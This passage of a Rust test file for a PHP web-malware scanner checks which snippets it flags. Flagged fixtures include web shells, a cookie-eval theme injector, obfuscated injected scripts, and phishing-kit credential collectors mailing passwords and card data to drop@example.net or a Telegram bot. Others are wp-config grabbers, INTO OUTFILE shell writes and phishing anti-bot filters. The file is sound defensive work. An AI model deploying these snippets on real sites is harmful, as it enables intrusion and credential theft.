    let changelog = planter.replace("pica2.php", "CHANGELOG.md");
    assert!(found(&changelog).is_empty());
    // Regression (review): a firewall's daily block list, a text file on GitHub.
    let blocklist = planter.replace("someone/public/refs/heads/main/pica2.php", "stamparm/ipsum/master/levels/3.txt");
    assert!(found(&blocklist).is_empty());
    let shown = planter.replace("file_put_contents(\"$d/.cache.php\", $code);", "echo htmlspecialchars($code);");
    assert!(found(&shown).is_empty(), "{shown}");
}

#[test]
fn statements_pasted_into_the_sites_files_are_droppers() {
    // An injector: lines of code without an open tag, added to a theme's functions file; the
    // open tag it names is one it looks for in the files it changes.
    let snippet = "global $seen;\nif (!empty($_COOKIE['k']) && empty($seen)) {\n    $seen = true;\n    \
                   $c = $_COOKIE['k'];\n    if (substr($c, 0, 5) === '<?php') { $c = substr($c, 5); }\n    \
                   $v = eval($c);\n    echo $v;\n}\n// kept in the theme, run on every page it shows.\n";
    let injector = format!(
        "<?php $code = <<<'EOD'\n{snippet}EOD;\n$f = get_template_directory() . '/functions.php';\n\
         file_put_contents($f, file_get_contents($f) . \"\\n\" . $code);"
    );
    assert_eq!(found(&injector), [Why::WritesCodeWithInput]);
}

#[test]
fn statements_and_patterns_that_run_nothing_from_the_request_are_not_droppers() {
    // A settings file written from a template of statements: no request input run.
    let config = "<?php $tpl = \"<?php\\n\\$db_host = 'localhost';\\n\\$db_user = 'shop';\\n\\$db_name = 'shop';\\n\\$db_prefix = 'sh_';\\n\\$debug = false;\\n\\$cache = true;\\n\\$secret = 'x';\\n\\$timeout = 30;\\n\\$lang = 'en';\\n\"; \
                  file_put_contents('config.php', $tpl);";
    assert!(found(config).is_empty());
    // A scanner's signatures: patterns of one line each, not statements.
    let patterns = "<?php $sigs = ['eval\\(\\$_POST\\[', 'assert\\(\\$_REQUEST', 'system\\(\\$_GET\\[']; \
                    file_put_contents('scan.log', implode(\"\\n\", $sigs));";
    assert!(found(patterns).is_empty());
}

#[test]
fn downloads_piped_into_text_tools_are_quiet() {
    let grep = "<?php exec('curl -s https://status.example.org/v | grep version', $out);";
    assert!(found(grep).is_empty());
    let shown = "<?php exec('wget -q -O - 198.51.100.7/list | sort -u', $out);";
    assert!(found(shown).is_empty());
}

#[test]
fn installers_and_commands_that_run_nothing_are_quiet() {
    let config = "<?php file_put_contents($path, '<?php return ' . var_export($settings, true) . ';');";
    assert!(found(config).is_empty());
    let health = "<?php exec('curl -s https://status.example.org/health', $out);";
    assert!(found(health).is_empty());
    // A download described in text, with no shell call in the file.
    assert!(found("<?php $help = 'Run: wget https://example.org/x.tar.gz && sh install.sh';").is_empty());
    // A comment describing an install, in a file that runs an unrelated command.
    let comment = "<?php\n// wget https://example.org/tool -O tool && chmod +x tool && ./tool\nexec('uptime', $out);";
    assert!(found(comment).is_empty());
}

#[test]
fn web_shell_consoles_are_found() {
    let console = "<form method=post><input name=d></form><?php echo php_uname(); echo get_current_user(); \
                   echo ini_get('disable_functions'); $d = $_POST['d']; foreach (scandir($d) as $x) { echo $x; } \
                   if (isset($_POST['rm'])) { unlink($_POST['rm']); } if (isset($_POST['mv'])) { rename($_POST['mv'], $_POST['to']); }";
    assert_eq!(found(console), [Why::WebShellConsole]);
}

#[test]
fn libraries_that_check_the_server_are_quiet() {
    // WordPress-like filesystem checks: the same functions, nothing shown to the visitor.
    let lib = "<?php function method() { if (getmyuid() === fileowner(__FILE__)) { return 'direct'; } \
               $free = disk_free_space(WP_CONTENT_DIR); $p = fileperms($f); } \
               function form() { ?><form><input name=host><?php $h = $_POST['host']; rename($a, $b); unlink($c); $l = scandir($d); }";
    assert!(found(lib).is_empty());
}

#[test]
fn injected_scripts_are_found() {
    let hidden =
        "<script>var _0x3f2a=['\\x68\\x72\\x65\\x66'];document[_0x3f2a[0]]='x';</script><?php\n// Silence is golden.\n";
    assert_eq!(found(hidden), [Why::InjectedScript]);
    let foreign = "<script type='text/javascript' src='https://stats.lovely-cats.tk/m.js?n=1'></script><?php\n";
    assert_eq!(found(foreign), [Why::InjectedScript]);
    let codes = "<?php echo '<script>eval(String.fromCharCode(118, 97, 114, 32))</script>';";
    assert_eq!(whys(codes), [(Why::InjectedScript, Danger::Medium)]);
    assert_eq!(whys(hidden), [(Why::InjectedScript, Danger::High)]);
}

#[test]
fn a_keyword_doorway_is_found() {
    // fresh110's "V3.0" generator: a hundred search phrases, the one the address names made a
    // page, a `404` for any other.
    let phrases: Vec<String> = (0..100).map(|k| format!("\"cheap generic pills number {k}\"")).collect();
    let slugs: Vec<String> = (0..100).map(|k| format!("\"p{k}\"")).collect();
    let src = format!(
        "<?php $file_array = array({});\n$kw_array = array({});\n\
         function err404() {{ header(\"HTTP/1.0 404 Not Found\"); exit; }}\n\
         $f = $_REQUEST['f']; $kw = ''; foreach ($file_array as $i => $s) {{ if ($s == $f) {{ $kw = $kw_array[$i]; }} }}\n\
         if (!$kw) {{ err404(); }} echo '<title>' . ucwords($kw) . '</title>';",
        slugs.join(","),
        phrases.join(",")
    );
    assert_eq!(found(&src), [Why::KeywordDoorway]);
    // A shop's list of its product names with a `404` for others: the names are not search
    // phrases (one or two words each).
    let names: Vec<String> = (0..100).map(|k| format!("\"Blue chair{k}\"")).collect();
    let shop = src.replace(&phrases.join(","), &names.join(","));
    assert!(found(&shop).is_empty(), "{:?}", found(&shop));
}

#[test]
fn code_run_inside_a_string_is_found() {
    // fresh109's one-liner: PHP calls `eval` to learn the name of a variable in the string.
    let eval = "<?php $a = $_POST['cmd'];\n$var = \"php {${eval($a)}}\";";
    assert_eq!(whys(eval), [(Why::EvalOfVariable, Danger::High)]);
    let shell = "<?php echo \"x ${system($_GET['c'])}\";";
    assert!(whys(shell).contains(&(Why::ShellFromInput, Danger::High)));
    // Variables, elements, properties and other functions named in strings run nothing.
    let names = "<?php echo \"{$a} ${b} {$o->p} ${c[1]} {$d['e']} {${'f'}} ${g ('h')}\";";
    assert!(found(names).is_empty());
}

#[test]
fn script_tags_kept_in_base64_are_found() {
    // `<script src=…>` and `<iframe …>` in base64, printed or kept in a table of texts.
    let printed =
        "<?php if (!is_admin()) { echo base64_decode('PHNjcmlwdCBzcmM9Ii8vYS5leGFtcGxlL3guanMiPjwvc2NyaXB0Pg=='); }";
    assert_eq!(whys(printed), [(Why::InjectedScript, Danger::High)]);
    let table = "<?php $t = array('cDE=', 'PGlmcmFtZSBzcmM9Ii8vYS5leGFtcGxlLyI+'); echo base64_decode($t[1]);";
    assert_eq!(found(table), [Why::InjectedScript]);
    // Base64 of other markup or of pictures is what sites keep (icons, a `<div>`, an SVG).
    let other = "<?php echo base64_decode('PGRpdiBjbGFzcz0ibm90aWNlIj5TYXZlZDwvZGl2Pg=='); \
                 $svg = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=';";
    assert!(found(other).is_empty());
}

#[test]
fn mass_script_injectors_are_found() {
    let walker = "<?php foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($root)) as $p) { \
                  if (substr($p, -4) == '.php') { $c = file_get_contents($p); \
                  file_put_contents($p, '<script src=\"https://cdn.example.com/a.js\"></script>' . $c); } }";
    assert_eq!(found(walker), [Why::InjectedScript]);
}

#[test]
fn one_page_with_a_script_written_once_is_quiet() {
    // A plugin writing its own page (no folder walk) is not an injector.
    let page = "<?php file_put_contents($dir . '/index.html', '<html><script src=\"app.js\"></script></html>');";
    assert!(found(page).is_empty());
}

#[test]
fn ordinary_scripts_are_quiet() {
    let theme = "<script src=\"https://cdn.jsdelivr.net/npm/jquery@3/dist/jquery.min.js\"></script><?php wp_head(); ?>";
    assert!(found(theme).is_empty());
    // Content sniffers compare bytes with '<script' and binary signatures: no script tag.
    let sniffer = "<?php if (substr($b, 0, 7) === '<script') { return 'text/html'; } \
                   if ($b === \"\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x01\") { return 'x'; }";
    assert!(found(sniffer).is_empty());
    // Mail obfuscators print a document.write of escaped text.
    let mailto = "<?php echo '<script type=\"text/javascript\">document.write(unescape(\\'' . $enc . '\\'))</script>';";
    assert!(found(mailto).is_empty());
}

#[test]
fn credential_collectors_are_found() {
    let kit = "<?php $ip = getenv('REMOTE_ADDR'); $m = \"Email : \" . $_POST['email'] . \"\\n\"; \
               $m .= \"Password : \" . $_POST['pass'] . \"\\n\"; mail('drop@example.net', 'login ' . $ip, $m); \
               header('Location: https://mail.example.com/');";
    assert_eq!(found(kit), [Why::CredentialCollector]);
    let saved = "<?php $f = fopen('cards.txt', 'a'); fwrite($f, \"Card: $_POST[ccnum]\\nCVV: $_POST[cvv]\\n\");";
    assert_eq!(found(saved), [Why::CredentialCollector]);
    let chat = "<?php $t = \"User: \" . $_POST['user'] . \"\\nPass: \" . $_POST['pass']; \
                file_get_contents('https://api.telegram.org/bot123:abc/sendMessage?chat_id=1&text=' . urlencode($t));";
    assert_eq!(found(chat), [Why::CredentialCollector]);
    // Fields named by a letter, the labels saying what they hold.
    let letters = "<?php $m = \"Email : \" . $_POST['u'] . \"\\n\"; $m .= \"Password : \" . $_POST['p']; \
                   mail('drop@example.net', 'x', $m);";
    assert_eq!(found(letters), [Why::CredentialCollector]);
    // Labels set in HTML, the fields through variables.
    let html = "<?php $u = $_POST['user']; $p = $_POST['pass']; $m = \"<b>User :</b> <i>\" . $u . \"</i><br>\"; \
                $m .= \"<b> Pass : </b><font color='#000'>\" . $p . \"</font>\"; mail($to, 'x', $m); \
                header('Location: next.php');";
    assert_eq!(found(html), [Why::CredentialCollector]);
}

#[test]
fn collectors_that_carry_fields_across_pages_or_align_labels_are_found() {
    // The fields a kit's earlier page kept in the session, interpolated in braces.
    let session = "<?php session_start(); $m = \"User : {$_SESSION['user']}\\n\"; \
                   $m .= \"Pass : {$_SESSION['pass']}\\n\"; mail('drop@example.net', 'x', $m);";
    assert_eq!(found(session), [Why::CredentialCollector]);
    // The request's fields in braces too.
    let braces = "<?php $m = \"Login : {$_POST['login']}\\nPassword : {$_POST['password']}\\n\"; \
                  mail('drop@example.net', 'x', $m);";
    assert_eq!(found(braces), [Why::CredentialCollector]);
    // Fields kept under names that say nothing: the labels, aligned with tabs, say what they
    // hold.
    let coded = "<?php $a = $_POST['f1']; $b = $_POST['f2']; $m = \"Card Number\\t: $a\\nCVV\\t\\t: $b\\n\"; \
                 mail('drop@example.net', 'x', $m);";
    assert_eq!(found(coded), [Why::CredentialCollector]);
    // Labels padded into a column, and in brackets.
    let padded = "<?php $u = $_POST['user']; $p = $_POST['pass']; \
                  $m = \"UserID                         : $u\\nPassword                       : $p\\n\"; \
                  mail('drop@example.net', 'x', $m);";
    assert_eq!(found(padded), [Why::CredentialCollector]);
    let brackets = "<?php $m = \"[Card Number] = \" . $_SESSION['n1'] . \"<br>[Expiry] = \" . $_SESSION['n2']; \
                    mail('drop@example.net', 'x', $m);";
    assert_eq!(found(brackets), [Why::CredentialCollector]);
    // A whole message in one literal, labelled in the victims' language.
    let fields: String = (1..=20).map(|k| format!("<b>Campo {k}:</b> $c{k}<br />\\n")).collect();
    let long = format!(
        "<?php $u = $_POST['usr']; $s = $_POST['pwd']; {} \
         $m = \"{fields}<b>Usuario:</b> $u<br />\\n<b>Senha:</b> $s<br />\\n\"; mail($to, 'x', $m);",
        (1..=20).map(|k| format!("$c{k} = $_POST['c{k}'];")).collect::<String>()
    );
    assert_eq!(found(&long), [Why::CredentialCollector]);
}

#[test]
fn forms_whose_labels_name_no_secret_are_not_collectors() {
    // A contact form's fields under names that say nothing, labelled with no secret.
    let contact = "<?php $a = $_POST['f1']; $b = $_POST['f2']; $m = \"Name\\t: $a\\nUser\\t: $b\\n\"; \
                   mail('shop@example.net', 'Contact', $m);";
    assert!(found(contact).is_empty());
    // A shop's order mail from the session: the customer and the items, no card.
    let order = "<?php $m = \"Email : {$_SESSION['email']}\\nItems : {$_SESSION['cart_count']}\\n\"; \
                 mail('shop@example.net', 'Order', $m);";
    assert!(found(order).is_empty());
    // A welcome mail to the visitor who registered, with the password they chose.
    let welcome = "<?php $p = $_POST['f2']; $m = \"User : {$_SESSION['user']}\\nPassword : $p\\n\"; \
                   mail($_POST['email'], 'Welcome', $m);";
    assert!(found(welcome).is_empty());
}

#[test]
fn order_forms_are_not_collectors() {
    let order = "<?php $m = 'Email: ' . $_POST['email'] . \"\\n\"; $m .= 'Shipping: ' . $_POST['shipping'] . \"\\n\"; \
                 $m .= 'Express: ' . $_POST['express_delivery']; mail($shop, 'New order', $m);";
    assert!(found(order).is_empty());
    // A feedback form: fields named by a letter, none a secret.
    let feedback = "<?php $m = \"<b>Name:</b> \" . $_POST['n'] . \"<br><b>Email:</b> \" . $_POST['e']; \
                    mail($shop, 'Feedback', $m);";
    assert!(found(feedback).is_empty());
}

#[test]
fn login_forms_are_not_collectors() {
    let login = "<?php if (password_verify($_POST['password'], $hash)) { mail($admin, 'New login', 'User ' . $name . ' logged in'); }";
    assert!(found(login).is_empty());
    let register =
        "<?php $msg = 'Welcome, your user name is: ' . $_POST['user']; mail($_POST['email'], 'Welcome', $msg);";
    assert!(found(register).is_empty());
}

#[test]
fn protection_bypasses_and_config_grabbers_are_found() {
    assert_eq!(found("<?php ini_restore('safe_mode'); ini_restore('open_basedir');"), [Why::PhpWeakened]);
    let grab = "<?php $users = file('/etc/passwd'); foreach ($users as $u) { $n = explode(':', $u)[0]; \
                copy('/home/' . $n . '/public_html/wp-config.php', $n . '.txt'); }";
    assert_eq!(found(grab), [Why::ReadsOtherSites]);
    assert_eq!(found("<?php symlink('/', 'root');"), [Why::ReadsOtherSites]);
    // fresh63's jemp.php: the accounts found from cPanel's mail aliases and the name server's
    // zones, each account's settings file copied out.
    let zones = "<?php foreach (scandir('/var/named') as $d) { $owner = posix_getpwuid(fileowner('/etc/valiases/' . $d));\n\
                 $dir = '/home/' . $owner['name'] . '/public_html'; copy($dir . '/wp-config.php', $owner['name'] . '.txt'); }";
    assert_eq!(found(zones), [Why::ReadsOtherSites]);
    // The site's own home, named once: quiet.
    assert!(found("<?php $dir = '/home/' . $user . '/public_html'; include $dir . '/config.php';").is_empty());
    // fresh109's reseller finder: cPanel's list of accounts and their owners.
    let resellers = "<?php $lines = file(\"/etc/trueuserowners\"); foreach ($lines as $l) { echo $l; }";
    assert_eq!(found(resellers), [Why::ReadsOtherSites]);
    // fresh109's password harvester: the links of a folder's index the visitor names, each
    // linked settings file read and its database password picked out.
    let harvest = "<?php $cn = file_get_contents($_POST['conf']); preg_match_all('#href=\"(.*?)\"#', $cn, $m);\n\
                   foreach ($m[1] as $f) { $c = file_get_contents($_POST['conf'] . $f);\n\
                   preg_match('#\\'DB_PASSWORD\\', \\'(.*)\\'#', $c, $p); echo $p[1]; }";
    assert_eq!(found(harvest), [Why::ReadsOtherSites]);
    // fresh139's WordPress mass defacer: the settings files are the lines of a list the
    // visitor names.
    let listed = "<?php $users = @file($_POST['url']);\nforeach ($users as $u) { $code = file_get_contents(trim($u));\n\
                  preg_match_all('|define.*\\(.*\\'DB_PASSWORD\\'.*,.*\\'(.*)\\'.*\\).*;|isU', $code, $b);\n\
                  $d = mysql_connect($h, $n, $b[1][0]); }";
    assert_eq!(found(listed), [Why::ReadsOtherSites]);
    // A site reading its own settings' password: quiet.
    let own =
        "<?php $c = file_get_contents(__DIR__ . '/wp-config.php'); preg_match(\"#'DB_PASSWORD', '(.*?)'#\", $c, $p);";
    assert!(found(own).is_empty());
    // (Named in a sentence, not read: quiet.)
    assert!(found("<?php echo 'cPanel keeps them in the file /etc/userdomains';").is_empty());
}

#[test]
fn a_watchdog_rewriting_a_file_forever_is_found() {
    // fresh26's sytel.php: the site's index.php written back every second and locked.
    let dog = "<?php ignore_user_abort(true); set_time_limit(0); $keep = file_get_contents($copy);\n\
               while (1 == 1) { @unlink($index); file_put_contents($index, $keep); chmod($index, 0444); usleep(1000000); }";
    assert_eq!(found(dog), [Why::RewritesFilesForever]);
    let forever =
        "<?php set_time_limit(0); for (;;) { copy('a.txt', 'index.php'); chmod('index.php', 0555); sleep(1); }";
    assert_eq!(found(forever), [Why::RewritesFilesForever]);
    // Near misses: a worker that writes in a loop but locks nothing, and a one-off lock.
    let worker = "<?php set_time_limit(0); while (true) { file_put_contents('queue.log', next_job(), FILE_APPEND); chmod('queue.log', 0644); sleep(5); }";
    assert!(found(worker).is_empty());
    let once = "<?php set_time_limit(0); file_put_contents('config.php', $c); chmod('config.php', 0444);";
    assert!(found(once).is_empty());
    // The loop inside the endless one, and a second endless loop after one that locks nothing
    // (the walk goes on after each loop's body: nested loops are read once, with their outer one).
    let nested = "<?php set_time_limit(0); while (1) { while (true) { file_put_contents('index.php', $k); chmod('index.php', 0444); } }";
    assert_eq!(found(nested), [Why::RewritesFilesForever]);
    let second = format!("{} while (1) {{ copy('a.txt', 'index.php'); chmod('index.php', 0444); }}", worker);
    assert_eq!(found(&second), [Why::RewritesFilesForever]);
    // Regression: fresh125's `lockpermisioin.php` only puts the read-only mode back, from a
    // variable, whenever it changes.
    let lock = "<?php $file = '/home/u/www/index.php'; $mode = 0555; chmod($file, $mode); $prev = fileperms($file);\n\
                while (true) { clearstatcache(); if (fileperms($file) != $prev) { chmod($file, $mode); } sleep(1); }";
    assert_eq!(found(lock), [Why::RewritesFilesForever]);
    let writable = lock.replace("0555", "0644");
    assert!(found(&writable).is_empty());
}

#[test]
fn a_name_counted_from_the_files_own_whitespace_is_found() {
    // Regression: fresh126's steganographic shells keep `create_function` and its code as
    // counts of tabs and spaces at the ends of their own lines (or of invisible letters in
    // their variables' names), read back with `file(__FILE__)`.
    let stego = "<?php\t\t \nclass S { function __construct() { $lines = file(__FILE__); $f = ''; $c = '';\n\
                 foreach ($lines as $i => $l) { $v = $this->v($l); if ($i < 14) { $f .= $v; } else { $c .= $v; } }\n\
                 $r = $f('', $c); return $r; }\n\
                 function v($l) { preg_match('/([\\t ]+)$/', $l, $m); if (isset($m[1])) {\n\
                 return chr(hexdec(dechex(substr_count($m[1], \"\\t\")) . dechex(substr_count($m[1], ' ')))); } return ''; } }\n\
                 $s = new S();\t\t\t \n";
    assert_eq!(found(stego), [Why::HiddenFunctionName]);
    // Near miss: a file counting its own lines' characters for a report.
    let report = "<?php $lines = file(__FILE__); $n = 0; foreach ($lines as $l) { $n += substr_count($l, ' '); } echo chr(65) . $n;";
    assert!(found(report).is_empty());
}

#[test]
fn a_loop_downloading_a_deleted_shell_again_is_found() {
    // Regression: fresh125's `getbackshelldownloader.php` runs `wget … -O file.php` through a
    // function of its own whenever the file is gone, every five seconds.
    let dog = "<?php $url = 'https://raw.example/x/Di%26De.php'; $filename = 'file.php';\n\
               function downloadFile($url, $filename) { exec(\"wget -q $url -O $filename > /dev/null 2>&1 &\"); }\n\
               while (true) { if (!file_exists($filename)) { downloadFile($url, $filename); } sleep(5); }";
    assert_eq!(found(dog), [Why::RewritesFilesForever]);
    // Near misses: a download run once, and a loop that waits for a file without downloading.
    let once = "<?php $f = 'update.php'; if (!file_exists($f)) { exec(\"wget -q https://example.org/u.zip -O $f\"); } sleep(1);";
    assert!(found(once).is_empty());
    let waits = "<?php while (true) { if (file_exists('done.php')) { break; } sleep(5); }";
    assert!(found(waits).is_empty());
}

#[test]
fn a_probe_printing_the_sites_settings_file_is_found() {
    // fresh24's probe, uploaded through a profile picture form: the Laravel site's `.env`.
    assert_eq!(found("<?php $l = file_get_contents(\"../../../.env\"); var_dump($l);?>"), [Why::ShowsSiteSecrets]);
    assert_eq!(found("<?php echo file_get_contents('../wp-config.php');"), [Why::ShowsSiteSecrets]);
    assert_eq!(found("<?php highlight_file('configuration.php');"), [Why::ShowsSiteSecrets]);
    let later = "<?php $c = file('/home/u/public_html/wp-config.php'); foreach ($c as $x) {} print_r($c);";
    assert_eq!(found(later), [Why::ShowsSiteSecrets]);
    let quiet = "<?php $s = @file_get_contents('../.env'); header('Content-Type: text/plain'); print_r($s);";
    assert_eq!(found(quiet), [Why::ShowsSiteSecrets]);
    // fresh76's one-liner: the site's `.env` under the document root, printed between markers.
    let marked = r#"<?php $c=@file_get_contents($_SERVER["DOCUMENT_ROOT"]."/.env");if($c&&strlen($c)>10)echo"ENV_START".$c."ENV_END";else echo"NONE";"#;
    assert_eq!(found(marked), [Why::ShowsSiteSecrets]);
    // Regressions (review): an application reading its own settings under its folder's name
    // (a cache plugin adding a constant, a salt's hash) is not a probe.
    let cache = r#"<?php function add_c() { $config = file_get_contents(ABSPATH . 'wp-config.php'); file_put_contents(ABSPATH . 'wp-config.php', $config); }
        function page() { $config = get_option('simple_cache'); echo '<input value="' . esc_attr($config['ttl']) . '">'; }"#;
    assert!(found(cache).is_empty());
    assert!(found("<?php return md5(AUTH_SALT . file_get_contents(ABSPATH . 'wp-config.php'));").is_empty());
    // Regression (review): a call that prints the settings, whatever path reaches them.
    assert_eq!(found("<?php readfile(dirname(__FILE__) . '/wp-config.php');"), [Why::ShowsSiteSecrets]);
    // Near misses: settings read and parsed but not shown, a path the application builds, an
    // object's own method, and an example file.
    assert!(
        found("<?php $env = file_get_contents('.env'); $vars = parse_ini_string($env); connect($vars);").is_empty()
    );
    assert!(found("<?php echo file_get_contents(base_path('.env'));").is_empty());
    assert!(found("<?php echo $disk->file('.env');").is_empty());
    assert!(found("<?php echo file_get_contents('.env.example');").is_empty());
}

#[test]
fn form_fields_run_as_variables_are_found() {
    let shell = "<form method=post><input name='c'></form><?php if ($c) { echo shell_exec($c); }";
    assert_eq!(found(shell), [Why::ShellFromInput]);
    let code = "<?php echo '<textarea name=\"php\"></textarea>'; if (isset($php)) { eval($php); }";
    assert_eq!(found(code), [Why::CodeFromInput]);
    let upload = "<input type=file name=f><?php move_uploaded_file($f, 'x.php');";
    assert_eq!(found(upload), [Why::UploadDropper]);
}

#[test]
fn old_editors_writing_a_form_named_file_are_found() {
    let editor = "<input name='target'><textarea name='text'></textarea><?php \
                  $h = fopen(\"$dir/$target\", 'w'); fwrite($h, $text); fclose($h);";
    assert_eq!(found(editor), [Why::UploadDropper]);
}

#[test]
fn editors_that_set_the_file_themselves_are_quiet() {
    // The field has the same name, but the code sets the variable (from a checked list).
    let editor = "<input name='file'><?php $file = validate_file_to_edit($_REQUEST['file'], $allowed); \
                  $f = fopen($file, 'w+'); fwrite($f, $content);";
    assert!(found(editor).is_empty());
    assert!(found("<input name='file'><?php function save($file) { $f = fopen($file, 'w'); }").is_empty());
    assert!(found("<input name='log'><?php $h = fopen($log, 'r');").is_empty());
}

#[test]
fn form_fields_apart_from_commands_are_quiet() {
    let page = "<form><input name='host'></form><?php $cmd = 'uptime'; exec($cmd, $out); echo htmlspecialchars($host);";
    assert!(found(page).is_empty());
    let method = "<input name='q'><?php $db->exec($q);";
    assert!(found(method).is_empty());
}

#[test]
fn mass_mailers_are_found() {
    let list = "<textarea name=emails></textarea><?php $all = explode(\"\\n\", $_POST['emails']); \
                foreach ($all as $to) { mail($to, $subject, $body); }";
    assert_eq!(found(list), [Why::MailFromInput]);
    let globals = "<input name='kime'><?php mail($kime, $baslik, $icerik, 'From: ' . $kim);";
    assert_eq!(found(globals), [Why::MailFromInput]);
}

#[test]
fn contact_forms_are_not_mass_mailers() {
    // One message to the site's owner, the visitor only in the text.
    let contact =
        "<textarea name=msg></textarea><?php $m = $_POST['msg']; foreach ($admins as $a) { mail($a, 'Contact', $m); }";
    assert!(found(contact).is_empty());
}

#[test]
fn location_beacons_are_found() {
    let beacon =
        "<?php $m = \"$_SERVER[DOCUMENT_ROOT]\" . $_SERVER['SCRIPT_FILENAME']; mail('x@example.net', 'up', $m);";
    assert_eq!(found(beacon), [Why::ReportsItsLocation]);
    // fresh78's `s2t.php`: the page's address posted to a chat bot when the file runs.
    let bot = "<?php function tell($m) { $o = ['http' => ['method' => 'POST', 'content' => http_build_query(['text' => $m])]]; \
               file_get_contents('https://api.telegram.org/bot123:abc/sendMessage', false, stream_context_create($o)); }\n\
               $u = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']; tell(\"File was launched: $u\");";
    assert_eq!(found(bot), [Why::ReportsItsLocation]);
    // Near-miss: a notifier that tells the bot about an order, not where it runs.
    assert!(
        found(&bot.replace("$u = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];", "$u = $order_id;"))
            .is_empty()
    );
    // Regression (review): a landing page's order form telling the shop's chat who ordered.
    let form = r#"<?php $name = htmlspecialchars($_POST['name']); $phone = htmlspecialchars($_POST['phone']);
        $txt = "New order from " . $_SERVER['HTTP_HOST'] . "%0AName: " . $name . "%0APhone: " . $phone;
        $s = fopen("https://api.telegram.org/bot123:AAF/sendMessage?chat_id=-100&text={$txt}", "r");"#;
    assert!(found(form).is_empty());
}

#[test]
fn error_mails_naming_the_page_are_quiet() {
    let report = "<?php $m = 'Error on ' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']; mail($admin, 'error', $m);";
    assert!(found(report).is_empty());
    // A path read for the site's own use, no mail.
    assert!(
        found("<?php $a = $_SERVER['DOCUMENT_ROOT']; $b = $_SERVER['SCRIPT_FILENAME']; mailer_log($a);").is_empty()
    );
}

#[test]
fn own_paths_and_settings_checks_are_quiet() {
    assert!(found("<?php if (ini_get('safe_mode')) { $warn = true; }").is_empty());
    assert!(found("<?php $root = '/home/' . $user . '/public_html/'; touch($root . 'x');").is_empty());
    assert!(found("<?php symlink($target, $link);").is_empty());
}

#[test]
fn nested_calls_are_read_a_bounded_way() {
    // `touch(touch(touch(…` would make reading each call's arguments quadratic.
    let src = format!("<?php {}", "touch(".repeat(20_000));
    let t = php::tokenize_for_test(src.as_bytes(), 100_000);
    assert_eq!(tokens::close_of(&t, 1), 1 + tokens::MAX_CALL_TOKENS);
    assert!(tokens::args(&t, 1).iter().all(|a| a.len() < tokens::MAX_CALL_TOKENS));
    assert!(found(&src).is_empty());
}

#[test]
fn the_database_made_to_write_files_is_found() {
    let shell = "<?php mysql_query(\"SELECT '<?php eval(\\$_POST[1]); ?>' INTO OUTFILE '/var/www/x.php'\");";
    assert_eq!(whys(shell), [(Why::DatabaseWritesFile, Danger::High)]);
    let udf = "<?php $q = \"SELECT data FROM tmp INTO DUMPFILE '$plugin_dir/x.so'\"; mysql_query($q);";
    assert_eq!(whys(udf), [(Why::DatabaseWritesFile, Danger::High)]);
    let export = "<?php $db->query(\"SELECT * FROM orders INTO OUTFILE '$csv'\");";
    assert_eq!(whys(export), [(Why::DatabaseWritesFile, Danger::Medium)]);
}

#[test]
fn sql_documentation_is_quiet() {
    // A parser's comment, and a keyword list, are not statements.
    assert!(found("<?php /* select ... INTO OUTFILE 'file_name' */ $k = ['INTO', 'OUTFILE'];").is_empty());
}

#[test]
fn phishing_filters_are_found() {
    let by_name = "<?php $r = $_SERVER['HTTP_REFERER']; if (stripos($r, 'phishtank') !== false || stripos($r, 'urlscan') !== false) { die(); }";
    assert_eq!(found(by_name), [Why::PhishingBotFilter]);
    let nets: String = (1..=24).map(|i| format!("'^{i}.{i}.*.*',")).collect();
    let by_address = format!(
        "<?php $deny = array({nets}); foreach ($deny as $n) {{ if (preg_match('/' . $n . '/', $_SERVER['REMOTE_ADDR'])) {{ header('Location: https://example.org/'); }} }}"
    );
    assert_eq!(found(&by_address), [Why::PhishingBotFilter]);
    // Regression: fresh132's `anti2.php` holds no word of the shapes' gate but its networks'
    // patterns.
    assert!(super::may_match(by_address.replace("foreach", "for_each").replace("Location", "L").as_bytes()));
    assert!(super::may_match(b"<?php $c = array(\"^66.249.*.*\", \"^74.125.*\");"));
    // Its Liberbank kit sends the turned-away visitor to a made-up site, its name drawn at
    // random.
    let random = "<?php if ($country !== 'ES') { header('Location: http://www.' . base64_encode(rand(1,999999999)) . '.com'); exit(); }";
    assert_eq!(found(random), [Why::PhishingBotFilter]);
    // Its Netflix kits' settings: the filtering service rented and the chat bot receiving.
    let settings = "<?php define(\"KILLBOT_API\", ''); define(\"TELEGRAM_TOKEN\", 'your token'); define(\"TELEGRAM_CHAT_ID\", 'chatid');";
    assert_eq!(found(settings), [Why::PhishingBotFilter]);
    let receiver = "<?php $settings = array(\"referer\" => \"https://live.com/\", // HTTP Referer For Antibots\n\
                    \"telegram\" => \"0\", // Telegram Bots Receiver\n\"chat_id\" => \"\");";
    assert_eq!(found(receiver), [Why::PhishingBotFilter]);
    // Regression: fresh164's Citibank kit's settings name its filter and its victim.
    let victim = "<?php $settings = array(\"anti-back\" => \"1\", // Victim Can't Go Back To Session\n\
                  \"referer\" => \"https://live.com/\", // HTTP Referer For Antibots\n\"email\" => \"\"); return $settings;";
    assert_eq!(found(victim), [Why::PhishingBotFilter]);
    // A security plugin's settings that speak of bots and victims of spam, without a filter word.
    let plugin = "<?php $opts = array('block_bots' => 1, // protect victims of comment spam\n'log' => 0);";
    assert!(found(plugin).is_empty(), "{:?}", found(plugin));
    // fresh150's Venmo gate: the filter library kits ship, its exit the brand's own site.
    let library = "<?php require __DIR__ . '/botMother/botMother.php'; $bm = new botMother(); $bm->setExitLink('https://venmo.com/');\n\
                   if ($proxy) { $bm->killBot('Detected proxy/hosting.'); die(header('location: ' . $bm->EXIT_LINK)); }";
    assert_eq!(found(library), [Why::PhishingBotFilter]);
}

#[test]
fn networks_first_two_numbers_compared_with_the_visitors_are_a_kits_filter() {
    // Regression: fresh159's Loco kit's `call.php`.
    let nets: String = (1..=24).map(|i| format!("\"{}.{}\",", 40 + i, 60 + i)).collect();
    let filter = format!(
        "<?php $ip = $_SERVER['REMOTE_ADDR']; $n = explode('.', $ip); $short = $n[0] . '.' . $n[1];\n\
         $deny = array({nets}); if (in_array($short, $deny)) {{ header('HTTP/1.0 404 Not Found'); die('404'); }}"
    );
    assert_eq!(found(&filter), [Why::PhishingBotFilter]);
